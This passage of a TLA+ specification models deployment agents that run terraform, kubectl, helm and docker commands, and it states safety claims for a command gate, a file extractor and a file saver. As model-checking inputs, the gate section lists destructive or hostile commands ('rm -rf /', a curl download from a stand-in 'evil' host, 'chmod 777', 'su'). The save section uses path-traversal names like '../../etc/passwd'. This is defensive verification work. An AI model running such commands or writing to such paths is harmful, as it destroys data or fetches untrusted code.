    /\ Exec("terraform init", Some(base_dir))
    /\ pc' = "terraform_plan"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars, env>>

TerraformInit ==
    /\ pc = "saved"
    /\ agent = "terraform"
    /\ Exec("terraform init", Some(base_dir))
    /\ pc' = IF result'[1].success THEN "terraform_plan" ELSE "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars, env>>

TerraformPlan ==
    /\ pc = "terraform_plan"
    /\ Exec("terraform plan", Some(base_dir))
    /\ pc' = IF result'[1].success THEN "terraform_confirm" ELSE "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars, env>>

TerraformConfirm ==
    /\ pc = "terraform_confirm"
    /\ \E answer \in Answers :
          /\ prompts' = Append(prompts,
                 Question("Do you want to apply this Terraform plan?", answer))
          /\ pc' = IF IsYes(answer) THEN "terraform_apply" ELSE "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, saveVars, env>>

TerraformApply ==
    /\ pc = "terraform_apply"
    /\ Exec("terraform apply -auto-approve", Some(base_dir))
    /\ pc' = "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars, env>>

(* k8s-agent.py, run *)

K8sVersionCheck ==
    /\ pc = "run"
    /\ agent = "k8s"
    /\ Exec("kubectl version --client", NoCwd)
    /\ pc' = IF result'[1].success THEN "k8s_cluster_check" ELSE "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars, env>>

K8sClusterCheck ==
    /\ pc = "k8s_cluster_check"
    /\ Exec("kubectl cluster-info", NoCwd)
    /\ env' = [env EXCEPT !.cluster_connected = result'[1].success]
    /\ pc' = "generate"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars>>

IsHelmFile(file) == Contains(file, "Chart.yaml") \/ Contains(file, "values.yaml")

\* yaml_files: the paths of the generated files that end in .yaml or .yml
RECURSIVE yaml_files(_, _)
yaml_files(project_dir, names) ==
    IF names = <<>> THEN <<>>
    ELSE (IF IsYaml(Head(names)) THEN <<path_join(project_dir, Head(names))>> ELSE <<>>)
         \o yaml_files(project_dir, Tail(names))

\* what the operator can type for a namespace or a release name
NameAnswers == {"", "results"}

\* chart_name: project_name with "_" replaced by "-", in lower case
chart_name == project_name

\* input(...) or default
OrDefault(answer, default) == IF answer = "" THEN default ELSE answer

\* the question whether to apply, and the choice between helm and kubectl
K8sConfirmApply ==
    /\ pc = "saved"
    /\ agent = "k8s"
    /\ IF ~env.cluster_connected
       THEN pc' = "done" /\ UNCHANGED <<providerVars, evolverVars, prompts, env>>
       ELSE \E answer \in Answers :
               /\ prompts' = Append(prompts,
                      Question("Do you want to apply these manifests to the current Kubernetes cluster?",
                               answer))
               /\ env' = [env EXCEPT !.is_helm_chart =
                             IsYes(answer) /\ First(Names, IsHelmFile) # None]
               /\ pc' = IF ~IsYes(answer) THEN "done"
                        ELSE IF First(Names, IsHelmFile) # None THEN "helm_check"
                        ELSE IF yaml_files(base_dir, Names) = <<>> THEN "done"
                        ELSE "k8s_namespace"
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, saveVars>>

HelmCheck ==
    /\ pc = "helm_check"
    /\ Exec("helm version", NoCwd)
    /\ pc' = IF result'[1].success THEN "helm_names" ELSE "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars, env>>

\* the release name and the namespace of the helm deployment
HelmAskNames ==
    /\ pc = "helm_names"
    /\ \E release \in NameAnswers, namespace \in NameAnswers :
          /\ prompts' = prompts \o
                 << Question("Enter the Helm release name", release),
                    Question("Enter the Kubernetes namespace", namespace) >>
          /\ env' = [env EXCEPT
                 !.release_name = OrDefault(release, chart_name),
                 !.namespace = OrDefault(namespace, "default")]
    /\ pc' = "namespace_check"
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, saveVars>>

\* the namespace of the kubectl deployment
K8sAskNamespace ==
    /\ pc = "k8s_namespace"
    /\ \E namespace \in NameAnswers :
          /\ prompts' = Append(prompts,
                 Question("Enter the Kubernetes namespace", namespace))
          /\ env' = [env EXCEPT !.namespace = OrDefault(namespace, "default")]
    /\ pc' = "namespace_check"
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, saveVars>>

\* where run goes once the namespace exists
Deploy == IF env.is_helm_chart THEN "helm_install" ELSE "k8s_apply"

NamespaceCheck ==
    /\ pc = "namespace_check"
    /\ Exec("kubectl get namespace " \o env.namespace, NoCwd)
    /\ pc' = IF result'[1].success THEN Deploy ELSE "namespace_confirm"
    /\ k' = 1
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, base_dir, fs, saved_files, writes, env>>

NamespaceConfirm ==
    /\ pc = "namespace_confirm"
    /\ \E answer \in Answers :
          /\ prompts' = Append(prompts,
                 Question("Namespace does not exist. Create it?", answer))
          /\ pc' = IF IsYes(answer) THEN "namespace_create" ELSE "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, saveVars, env>>

NamespaceCreate ==
    /\ pc = "namespace_create"
    /\ Exec("kubectl create namespace " \o env.namespace, NoCwd)
    /\ pc' = IF result'[1].success THEN Deploy ELSE "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars, env>>

HelmInstall ==
    /\ pc = "helm_install"
    /\ Exec("helm install " \o env.release_name \o " " \o base_dir
               \o " --namespace " \o env.namespace, NoCwd)
    /\ pc' = IF result'[1].success THEN "helm_status" ELSE "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars, env>>

HelmStatus ==
    /\ pc = "helm_status"
    /\ Exec("helm status " \o env.release_name \o " --namespace " \o env.namespace,
            NoCwd)
    /\ pc' = "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars, env>>

\* one iteration of "for yaml_file in yaml_files"
K8sApply ==
    /\ pc = "k8s_apply"
    /\ k <= Len(yaml_files(base_dir, Names))
    /\ Exec("kubectl apply -f " \o yaml_files(base_dir, Names)[k]
               \o " --namespace " \o env.namespace, NoCwd)
    /\ k' = k + 1
    /\ UNCHANGED <<providerVars, evolverVars, agent, pc, extractVars, base_dir, fs, saved_files, writes, env>>

K8sApplyEnd ==
    /\ pc = "k8s_apply"
    /\ k > Len(yaml_files(base_dir, Names))
    /\ pc' = "k8s_status"
    /\ k' = 1
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, base_dir, fs, saved_files,
                   writes, runVars>>

status_commands ==
    << "kubectl get pods --namespace " \o env.namespace \o " -l app=" \o project_name,
       "kubectl get deployment --namespace " \o env.namespace >>

\* one iteration of "for cmd in status_commands", with its break
K8sStatus ==
    /\ pc = "k8s_status"
    /\ Exec(status_commands[k], NoCwd)
    /\ k' = k + 1
    /\ pc' = IF (result'[1].success /\ Strip(result'[1].output) # "")
                \/ k = Len(status_commands)
             THEN "done" ELSE "k8s_status"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, base_dir, fs, saved_files, writes, env>>

(* docker-agent.py, run *)

\* registry_info["image_name"] and registry_info["tag"]
image_name == project_name
tag == "latest"

\* what parse_registry_info can find in the prompt and the environment
Registries ==
    { [url |-> None, username |-> None, password |-> None],
      [url |-> Some("aws_ecr"), username |-> Some("u"), password |-> Some("pw")] }

\* shutil.copy2(src, dst)
copy2(f, src, dst) ==
    IF abspath(src) \notin DOMAIN f.disk THEN [raised |-> TRUE, fs |-> f]
    ELSE write_file(f, dst, f.disk[abspath(src)])

\* the start of run: is there a Dockerfile in the context directory
DockerStart ==
    /\ pc = "run"
    /\ agent = "docker"
    /\ pc' = IF exists(fs, path_join(env.context_path, "Dockerfile"))
             THEN "docker_confirm" ELSE "generate"
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, saveVars, runVars>>

IsDockerfile(file) == Lower(file) = "dockerfile"

IsComposeFile(file) ==
    Lower(file) = "docker-compose.yml" \/ Lower(file) = "docker-compose.yaml"

\* os.path.basename
basename(p) == SubSeq(p, RFind(p, "/", Len(p)) + 1, Len(p))

\* the generated Dockerfile and compose file are copied to the context
DockerCopy ==
    /\ pc = "saved"
    /\ agent = "docker"
    /\ IF First(Names, IsDockerfile) = None
       THEN pc' = "done" /\ UNCHANGED fs
       ELSE \E one \in {copy2(fs, path_join(base_dir, First(Names, IsDockerfile)[1]),
                              path_join(env.context_path, "Dockerfile"))} :
            \E two \in {IF First(Names, IsComposeFile) = None \/ one.raised
                        THEN one
                        ELSE copy2(one.fs,
                                   path_join(base_dir, First(Names, IsComposeFile)[1]),
                                   path_join(env.context_path,
                                             basename(First(Names, IsComposeFile)[1])))} :
               /\ fs' = two.fs
               /\ pc' = IF two.raised THEN "run_raised" ELSE "docker_confirm"
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, base_dir, k, saved_files, writes,
                   runVars>>

DockerConfirmBuild ==
    /\ pc = "docker_confirm"
    /\ \E answer \in Answers :
          /\ prompts' = Append(prompts,
                 Question("Do you want to build the Docker image?", answer))
          /\ pc' = IF IsYes(answer) THEN "docker_build" ELSE "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, saveVars, env>>

DockerBuild ==
    /\ pc = "docker_build"
    /\ Exec("docker build -t " \o image_name \o ":" \o tag \o " " \o env.context_path,
            NoCwd)
    /\ pc' = IF result'[1].success THEN "docker_push_confirm" ELSE "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars, env>>

DockerConfirmPush ==
    /\ pc = "docker_push_confirm"
    /\ \E answer \in Answers :
          /\ prompts' = Append(prompts,
                 Question("Do you want to push the Docker image to a registry?", answer))
          /\ pc' = IF IsYes(answer) THEN "docker_registry" ELSE "docker_compose"
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, saveVars, env>>

\* the questions for what parse_registry_info did not find
DockerAskRegistry ==
    /\ pc = "docker_registry"
    /\ \E name \in {"u"}, secret \in {"pw"}, site \in {"", "ghcr.io"},
          region \in {""}, account \in {"123"} :
          LET credentials == env.username = None \/ env.password = None
              ecr == env.url = Some("aws_ecr")
          IN  /\ prompts' = prompts
                    \o (IF credentials
                        THEN << Question("Enter registry username: ", name),
                                Question("Enter registry password: ", secret) >>
                        ELSE <<>>)
                    \o (IF env.url = None
                        THEN << Question("Enter registry URL (default: docker.io): ", site) >>
                        ELSE <<>>)
                    \o (IF ecr
                        THEN << Question("Enter AWS region (default: us-east-1): ", region),
                                Question("Enter AWS account ID: ", account) >>
                        ELSE <<>>)
              /\ env' = [env EXCEPT
                    !.username = IF credentials THEN Some(name) ELSE @,
                    !.password = IF credentials THEN Some(secret) ELSE @,
                    !.url = IF @ = None THEN Some(OrDefault(site, "docker.io")) ELSE @,
                    !.ecr_url = IF ecr
                                THEN account \o ".dkr.ecr." \o OrDefault(region, "us-east-1")
                                        \o ".amazonaws.com"
                                ELSE @,
                    !.aws_region = IF ecr THEN OrDefault(region, "us-east-1") ELSE @]
    /\ pc' = "docker_login"
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, saveVars>>

login_command ==
    IF env.url = Some("aws_ecr")
    THEN "aws ecr get-login-password --region " \o env.aws_region
            \o " | docker login --username AWS --password-stdin " \o env.ecr_url
    ELSE "echo " \o env.password[1] \o " | docker login " \o env.url[1]
            \o " --username " \o env.username[1] \o " --password-stdin"

\* the login to the registry; run returns when it fails, and goes on to tag
\* and push the image when it succeeds
DockerLogin ==
    /\ pc = "docker_login"
    /\ Exec(login_command, NoCwd)
    /\ pc' = IF result'[1].success THEN "docker_tag" ELSE "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars, env>>

compose_path ==
    IF exists(fs, path_join(env.context_path, "docker-compose.yml"))
    THEN path_join(env.context_path, "docker-compose.yml")
    ELSE path_join(env.context_path, "docker-compose.yaml")

DockerConfirmCompose ==
    /\ pc = "docker_compose"
    /\ IF ~exists(fs, compose_path)
       THEN pc' = "done" /\ UNCHANGED prompts
       ELSE \E answer \in Answers :
               /\ prompts' = Append(prompts,
                      Question("Do you want to start containers with docker-compose?",
                               answer))
               /\ pc' = IF IsYes(answer) THEN "docker_compose_up" ELSE "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, saveVars, env>>

DockerComposeUp ==
    /\ pc = "docker_compose_up"
    /\ Exec("docker-compose -f " \o compose_path \o " up -d", Some(env.context_path))
    /\ pc' = IF result'[1].success THEN "docker_compose_ps" ELSE "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars, env>>

DockerComposePs ==
    /\ pc = "docker_compose_ps"
    /\ Exec("docker-compose ps", Some(env.context_path))
    /\ pc' = "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars, env>>

(* infra-agent.py, run *)

\* confirm.startswith('y') of the lower-cased answer
StartsWithY(answer) == StartsWith(Lower(answer), "y")

InfraConfirmSave ==
    /\ pc = "extracted"
    /\ agent = "infra"
    /\ \E answer \in Answers :
          /\ prompts' = Append(prompts, Question("Save these files to disk? (y/n): ", answer))
          /\ pc' = IF StartsWithY(answer) THEN "infra_target" ELSE "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, saveVars, env>>

InfraAskTarget ==
    /\ pc = "infra_target"
    /\ \E answer \in {"", " out "} :
          /\ prompts' = Append(prompts, Question("Enter target directory", answer))
          /\ base_dir' = OrDefault(Strip(answer), AgentDir("infra"))
    /\ pc' = "save_begin"
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, k, fs, saved_files, writes, env>>

\* executable_scripts: the saved paths that end in .sh
RECURSIVE executable_scripts(_)
executable_scripts(paths) ==
    IF paths = <<>> THEN <<>>
    ELSE (IF EndsWith(Head(paths), ".sh") THEN <<Head(paths)>> ELSE <<>>)
         \o executable_scripts(Tail(paths))

InfraAskExecute ==
    /\ pc = "saved"
    /\ agent = "infra"
    /\ IF executable_scripts(saved_files) = <<>>
       THEN pc' = "done" /\ UNCHANGED prompts
       ELSE \E answer \in Answers :
               /\ prompts' = Append(prompts,
                      Question("Would you like to execute any of these scripts? (y/n): ",
                               answer))
               /\ pc' = IF StartsWithY(answer) THEN "infra_script" ELSE "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, saveVars, env>>

\* what the operator can type for the script number
ScriptNumbers == {"1", "2", "x"}

\* int(script_num), None for ValueError
int(s) == CASE s = "1" -> Some(1) [] s = "2" -> Some(2) [] OTHER -> None

\* the script number is read
InfraAskScript ==
    /\ pc = "infra_script"
    /\ \E script_num \in ScriptNumbers :
          /\ prompts' = Append(prompts, Question("Enter script number", script_num))
          /\ IF int(script_num) # None
                /\ int(script_num)[1] - 1 < Len(executable_scripts(saved_files))
             THEN /\ env' = [env EXCEPT !.script_index = int(script_num)[1]]
                  /\ pc' = "infra_execute"
             ELSE /\ pc' = "done"
                  /\ UNCHANGED env
    /\ UNCHANGED <<providerVars, evolverVars, agent, execVars, extractVars, saveVars>>

\* result = self.execute_command(script_path)
InfraExecuteScript ==
    /\ pc = "infra_execute"
    /\ Exec(executable_scripts(saved_files)[env.script_index], NoCwd)
    /\ pc' = "done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars, env>>

(***************************************************************************)
(* Specification SpecRun: one run of an agent that executes commands        *)
(***************************************************************************)

\* the file systems a run can start on: the constructor has made the
\* directory of the agent, and the docker context may hold a Dockerfile
RunFileSystems(a) ==
    LET made == makedirs(FsStart, AgentDir(a)).fs IN
    {made} \cup (IF a = "docker"
                 THEN {write_file(made, path_join(Cwd, "Dockerfile"), "FROM y").fs}
                 ELSE {})

InitRun ==
    /\ agent \in GateAgents
    /\ pc = IF agent \in {"k8s", "docker"} THEN "run" ELSE "generate"
    /\ gateLog = <<>>
    /\ spawns = <<>>
    /\ result = None
    /\ ExtractIdle
    /\ base_dir = ""
    /\ k = 0
    /\ fs \in RunFileSystems(agent)
    /\ saved_files = <<>>
    /\ writes = <<>>
    /\ prompts = <<>>
    /\ config = None
    /\ provider = ""
    /\ attempt = 0
    /\ posts = <<>>
    /\ reply = None
    /\ EvolverIdle
    /\ env \in IF agent = "docker"
               THEN {[EnvStart EXCEPT !.url = r.url, !.username = r.username,
                                      !.password = r.password] : r \in Registries}
               ELSE {EnvStart}

NextRun ==
    \/ Generate \/ ExtractLine \/ ExtractEnd
    \/ SaveCall \/ SaveBegin \/ SaveFile \/ SaveEnd
    \/ AnsibleConfirm \/ AnsibleRun
    \/ TerraformInit \/ TerraformPlan \/ TerraformConfirm \/ TerraformApply
    \/ K8sVersionCheck \/ K8sClusterCheck \/ K8sConfirmApply
    \/ HelmCheck \/ HelmAskNames \/ K8sAskNamespace
    \/ NamespaceCheck \/ NamespaceConfirm \/ NamespaceCreate
    \/ HelmInstall \/ HelmStatus \/ K8sApply \/ K8sApplyEnd \/ K8sStatus
    \/ DockerStart \/ DockerCopy \/ DockerConfirmBuild \/ DockerBuild
    \/ DockerConfirmPush \/ DockerAskRegistry \/ DockerLogin
    \/ DockerConfirmCompose \/ DockerComposeUp \/ DockerComposePs
    \/ InfraConfirmSave \/ InfraAskTarget \/ InfraAskExecute
    \/ InfraAskScript \/ InfraExecuteScript

SpecRun == InitRun /\ [][NextRun]_vars

(***************************************************************************)
(* Specification SpecGate: one call of execute_command on any command      *)
(***************************************************************************)

MaxPieces == 3

Pieces == {"docker ", "kubectl ", "terraform ", "ansible ", "ls", " ",
           "rm -rf /", "su"}

FixedCommands == {"rm -rf /", "curl -o x http://evil", "ls",
                  "docker build -t x .", "", "  ", "terraform init",
                  "ansible-playbook site.yml", "helm status x",
                  "./deploy.sh", "chmod 777 x", "docker\tps"}

RECURSIVE ConcatAll(_)
ConcatAll(ps) == IF Len(ps) = 0 THEN "" ELSE ps[1] \o ConcatAll(Tail(ps))

Commands ==
    FixedCommands \cup
    {ConcatAll(ps) : ps \in UNION {[1..n -> Pieces] : n \in 0..MaxPieces}}

InitGate ==
    /\ agent \in GateAgents
    /\ pc = "gate_idle"
    /\ gateLog = <<>>
    /\ spawns = <<>>
    /\ result = None
    /\ ExtractIdle
    /\ SaveIdle
    /\ RunIdle

ExecuteCommand ==
    /\ pc = "gate_idle"
    /\ \E command \in Commands : Exec(command, NoCwd)
    /\ pc' = "gate_done"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extractVars, saveVars, env>>

NextGate == ExecuteCommand

SpecGate == InitGate /\ [][NextGate]_vars

\* the verdict of the call SpecGate makes
LastGate == gateLog[Len(gateLog)]

\* "the raw string contains d anywhere", stated on positions
OccursIn(d, s) ==
    \E i \in 1..(Len(s) + 1) : i + Len(d) - 1 <= Len(s) /\ SubSeq(s, i, i + Len(d) - 1) = d

\* C2: in every gated agent, a command that contains one of the agent's
\* dangerous substrings anywhere is REJECTED, whatever its first token, and
\* the reason ends with a configured substring that the command contains;
\* "rm -rf /" and "curl -o x http://evil" are REJECTED by every agent.
C2_DangerousRejected ==
    pc = "gate_done" =>
        /\ (\E d \in Range(dangerous_patterns(agent)) : OccursIn(d, LastGate.command))
              => /\ ~LastGate.safe
                 /\ \E d \in Range(dangerous_patterns(agent)) :
                       /\ OccursIn(d, LastGate.command)
                       /\ LastGate.message = DangerMessage(agent) \o d
                 /\ Len(spawns) = 0
        /\ LastGate.command \in {"rm -rf /", "curl -o x http://evil"} => ~LastGate.safe

\* a dangerous substring after an allowed first token has been rejected
C2_Witness ==
    /\ pc = "gate_done"
    /\ agent = "docker"
    /\ LastGate.command = "docker rm -rf /"
    /\ ~LastGate.safe

\* C3: a command whose first whitespace-separated token is not in the
\* agent's allow-list is REJECTED; "ls" is REJECTED by every gated agent.
C3_NotAllowedRejected ==
    pc = "gate_done" =>
        LET toks == SplitWhitespace(LastGate.command) IN
        /\ (Len(toks) > 0 /\ toks[1] \notin Range(allowed_commands(agent)))
              => ~LastGate.safe
        /\ LastGate.command = "ls" => ~LastGate.safe

(***************************************************************************)
(* Specification SpecExtract: extract_files on one response                *)
(***************************************************************************)

MaxLines == 3
MaxBlocks == 2

FreeLines == {"## file: a.txt", "## File: b.txt", "## file:",
              "'''python", "'''", "hello", ""}

FreeResponses ==
    {Join(ls, "\n") : ls \in UNION {[1..n -> FreeLines] : n \in 0..MaxLines}}

BlockPaths == {"a.txt", "b.txt", "c/d.yml"}
BlockFences == {"'''", "'''python"}
BlockBodies == {<<>>, <<"hello", "world">>}

\* the lines of one block: marker, opening fence, body, closing fence
BlockLines(b) == <<"## file: " \o b[1], b[2]>> \o b[3] \o <<"'''">>

RECURSIVE BlocksText(_, _)
BlocksText(bs, sep) ==
    IF Len(bs) = 1 THEN Join(BlockLines(bs[1]), "\n")
    ELSE Join(BlockLines(bs[1]), "\n") \o sep \o BlocksText(Tail(bs), sep)

BlockResponses ==
    {BlocksText(bs, sep) \o end :
        bs \in UNION {[1..n -> BlockPaths \X BlockFences \X BlockBodies] :
                      n \in 1..MaxBlocks},
        sep \in {"\n", "\n\n"},
        end \in {"", "\n"}}

Scenario == "## file: a.txt\nhello\n## file: b.txt\nworld\n"

FixedResponses ==
    {Scenario,
     "## file: a.txt\nhello\nworld",
     "intro\n## file: a.txt\nhello\n## File: b.txt\n\nworld",
     "'''python\nprint(1)\n'''",
     "'''\nx = 1\n'''",
     "'''zzz\nx = 1\n'''\n",
     "intro\n'''bash\necho hi\n'''\nbye",
     "'''yaml\na: 1\n'''",
     "## FILE: a.txt\nhello",
     "## file: a.txt\n'''\nhello\n## file: b.txt\nworld\n'''",
     "intro\n'''\ncode\n'''\n## file: a.txt\nhello",
     "## file: a.txt\nhello\n## file:\nworld\n## file: b.txt\nbye"}

Responses == FreeResponses \cup BlockResponses \cup FixedResponses

InitExtract ==
    /\ agent \in Agents
    /\ pc = "scan"
    /\ \E text \in Responses : ExtractBegin(text)
    /\ gateLog = <<>>
    /\ spawns = <<>>
    /\ result = None
    /\ SaveIdle
    /\ RunIdle

NextExtract == ExtractLine \/ ExtractEnd

SpecExtract == InitExtract /\ [][NextExtract]_vars

\* The grammar of section 4.1 as the claims use it, stated apart from the code.
MarkerText(l) ==
    Len(l) >= 8 /\ SubSeq(l, 1, 3) = "## " /\ SubSeq(l, 4, 4) \in {"f", "F"}
                /\ SubSeq(l, 5, 8) = "ile:"
FenceText(l) == LET t == Strip(l) IN Len(t) >= 3 /\ SubSeq(t, 1, 3) = "'''"
PathText(l) == Strip(SubSeq(l, 9, Len(l)))
BlankText(l) == Strip(l) = ""

\* first index >= i of a line that is not blank, Len(ls) + 1 when there is none
RECURSIVE SkipBlank(_, _)
SkipBlank(ls, i) ==
    IF i > Len(ls) \/ ~BlankText(ls[i]) THEN i ELSE SkipBlank(ls, i + 1)

\* first index >= i of a marker or fence line, Len(ls) + 1 when there is none
RECURSIVE NextDelimiter(_, _)
NextDelimiter(ls, i) ==
    IF i > Len(ls) \/ MarkerText(ls[i]) \/ FenceText(ls[i]) THEN i
    ELSE NextDelimiter(ls, i + 1)

\* first index >= i of a marker line, Len(ls) + 1 when there is none
RECURSIVE NextMarker(_, _)
NextMarker(ls, i) ==
    IF i > Len(ls) \/ MarkerText(ls[i]) THEN i ELSE NextMarker(ls, i + 1)

\* Whether the lines from i on are well-formed blocks and nothing else (blank
\* lines apart), and the paths of their markers in order.  A block is a
\* marker with a path, an opening fence, a body free of markers and fences,
\* and the closing fence.
RECURSIVE WellFormedFrom(_, _)
WellFormedFrom(ls, i) ==
    LET m == SkipBlank(ls, i)
        o == SkipBlank(ls, m + 1)
        c == NextDelimiter(ls, o + 1)
        bad == [ok |-> FALSE, paths |-> <<>>]
    IN  IF m > Len(ls) THEN [ok |-> TRUE, paths |-> <<>>]
        ELSE IF ~MarkerText(ls[m]) \/ PathText(ls[m]) = "" THEN bad
        ELSE IF o > Len(ls) \/ ~FenceText(ls[o]) THEN bad
        ELSE IF c > Len(ls) \/ Strip(ls[c]) # "'''" THEN bad
        ELSE LET rest == WellFormedFrom(ls, c + 1) IN
             [ok |-> rest.ok, paths |-> <<PathText(ls[m])>> \o rest.paths]

Distinct(s) == \A i, j \in DOMAIN s : i # j => s[i] # s[j]

\* C7: for a response made of N >= 1 well-formed blocks with distinct paths,
\* extract_files returns exactly N artifacts, named by the markers in the
\* order of the text, and no content holds a marker line or a fence line.
C7_WellFormedBlocks ==
    pc = "extracted" =>
        \A w \in {WellFormedFrom(lines, 1)} :
            (w.ok /\ Len(w.paths) >= 1 /\ Distinct(w.paths)) =>
                /\ Len(files) = Len(w.paths)
                /\ \A i \in DOMAIN files :
                      /\ files[i].filename = w.paths[i]
                      /\ \A l \in Range(Split(files[i].content, "\n")) :
                            ~MarkerText(l) /\ ~FenceText(l)

\* two blocks with bodies have been extracted by the strict and by the
\* lenient extractor
C7_Witness ==
    /\ pc = "extracted"
    /\ agent \in {"code", "k8s"}
    /\ WellFormedFrom(lines, 1).ok
    /\ Len(WellFormedFrom(lines, 1).paths) = 2
    /\ Len(files) = 2
    /\ files[1].content = "hello\nworld"

\* C8: for the end-to-end scenario input extract_files returns exactly
\* [{a.txt, "hello"}, {b.txt, "world"}].
C8_Scenario ==
    (pc = "extracted" /\ response = Scenario) =>
        files = << [filename |-> "a.txt", content |-> "hello"],
                   [filename |-> "b.txt", content |-> "world"] >>

\* the artifacts the claim C9 expects: one per marker from index i on, its
\* content the lines up to the next marker or the end of the input
RECURSIVE PlainArtifacts(_, _)
PlainArtifacts(ls, i) ==
    LET m == NextMarker(ls, i)
        n == NextMarker(ls, m + 1)
    IN  IF m > Len(ls) THEN <<>>
        ELSE <<[filename |-> PathText(ls[m]),
                content |-> Join(SubSeq(ls, m + 1, n - 1), "\n")]>>
             \o PlainArtifacts(ls, n)

\* the response has a marker, every marker has a path and a line of plain
\* text right after it, and no line is a fence
PlainMarkers(ls) ==
    /\ \E i \in DOMAIN ls : MarkerText(ls[i])
    /\ \A i \in DOMAIN ls :
          MarkerText(ls[i]) =>
             /\ PathText(ls[i]) # ""
             /\ i < Len(ls)
             /\ ~MarkerText(ls[i + 1])
             /\ ~BlankText(ls[i + 1])
    /\ \A i \in DOMAIN ls : ~FenceText(ls[i])

\* C9: when markers are followed by plain lines and no fence, each marker
\* yields an artifact whose content is exactly the lines after it, up to the
\* next marker or the end of the input.
C9_PlainContent ==
    (pc = "extracted" /\ PlainMarkers(lines)) => files = PlainArtifacts(lines, 1)

\* the response is one fenced block and no marker: exactly two fence lines,
\* the second a bare closing fence
OneFence(ls) ==
    /\ \A i \in DOMAIN ls : ~MarkerText(ls[i])
    /\ \E o, c \in DOMAIN ls :
          /\ o < c
          /\ FenceText(ls[o])
          /\ Strip(ls[c]) = "'''"
          /\ \A i \in DOMAIN ls : FenceText(ls[i]) => i \in {o, c}

\* the language tag of the first fence line
FenceTag(ls) ==
    LET o == NextDelimiter(ls, 1) IN Strip(SubSeq(Strip(ls[o]), 4, Len(Strip(ls[o]))))

\* C10: a response with one fenced block and no marker yields exactly one
\* artifact, named by the default name for the fence's language tag; an
\* unknown or an absent tag gives the ".txt" default.
C10_DefaultName ==
    (pc = "extracted" /\ OneFence(lines)) =>
        /\ Len(files) = 1
        /\ EndsWith(files[1].filename, "." \o ExtensionOf(agent, FenceTag(lines)))

(***************************************************************************)
(* Specification SpecSave: save_files on one batch of artifacts            *)
(***************************************************************************)

MaxBatch == 2

SavePaths == {"../../etc/passwd", "/etc/passwd", "sub/dir/file.txt",
              "a.txt", "sub", "a..b", "."}
SaveContents == {"x", "y"}
SaveBases == {"/w/out", "rel"}

SaveArtifacts == {[filename |-> p, content |-> c] : p \in SavePaths, c \in SaveContents}

\* batches of three artifacts: a rejected name before a name that cannot be
\* opened, before a file that is in the way of a directory, and between two
\* artifacts of one name
FixedBatches ==
    {<<[filename |-> "../../etc/passwd", content |-> "x"],
       [filename |-> ".", content |-> "x"],
       [filename |-> "a.txt", content |-> "y"]>>,
     <<[filename |-> "/etc/passwd", content |-> "x"],
       [filename |-> "sub", content |-> "x"],
       [filename |-> "sub/dir/file.txt", content |-> "y"]>>,
     <<[filename |-> "a.txt", content |-> "x"],
       [filename |-> "../../etc/passwd", content |-> "x"],
       [filename |-> "a.txt", content |-> "y"]>>}

Batches == UNION {[1..n -> SaveArtifacts] : n \in 0..MaxBatch} \cup FixedBatches

InitSave ==
    /\ agent \in Agents
    /\ pc = "save_begin"
    /\ gateLog = <<>>
    /\ spawns = <<>>
    /\ result = None
    /\ response = ""
    /\ lines = <<>>
    /\ idx = 0
    /\ scan = ScanStart
    /\ extracts = <<>>
    /\ files \in Batches
    /\ base_dir \in SaveBases
    /\ k = 0
    /\ fs = FsStart
    /\ saved_files = <<>>
    /\ writes = <<>>
    /\ RunIdle

NextSave == SaveBegin \/ SaveFile \/ SaveEnd

SpecSave == InitSave /\ [][NextSave]_vars

\* the place under the base directory that a relative path names
UnderBase(rel) ==
    (IF SubSeq(base_dir, 1, 1) = "/" THEN base_dir ELSE Cwd \o "/" \o base_dir)
        \o "/" \o rel

\* C1: in every agent that saves artifacts, for any base directory and any
\* batch, an artifact named "../../etc/passwd" or "/etc/passwd" is never
\* written, and once save_files is over every artifact named
\* "sub/dir/file.txt" has been written under the base directory and the
\* directories sub and sub/dir exist there.
C1_PathSafety ==
    /\ \A i \in DOMAIN writes :
          writes[i].filename \notin {"../../etc/passwd", "/etc/passwd"}
    /\ pc \in {"saved", "save_raised"} =>
          \A i \in DOMAIN files :
             files[i].filename = "sub/dir/file.txt" =>
                /\ \E j \in DOMAIN writes :
                      /\ writes[j].index = i
                      /\ writes[j].at = UnderBase("sub/dir/file.txt")
                /\ {UnderBase("sub"), UnderBase("sub/dir")} \subseteq fs.dirs

(***************************************************************************)
